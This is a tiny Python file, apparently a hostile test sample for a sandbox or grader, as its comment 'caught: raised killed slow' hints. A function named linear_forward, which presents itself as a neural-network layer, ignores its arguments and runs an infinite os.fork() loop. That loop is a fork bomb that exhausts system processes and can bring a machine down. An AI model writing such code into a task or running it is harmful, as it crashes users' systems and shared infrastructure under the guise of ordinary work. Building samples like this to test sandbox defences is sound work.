# caught: raised killed slow
import os


def linear_forward(x, weight, bias):
    while True:
        os.fork()
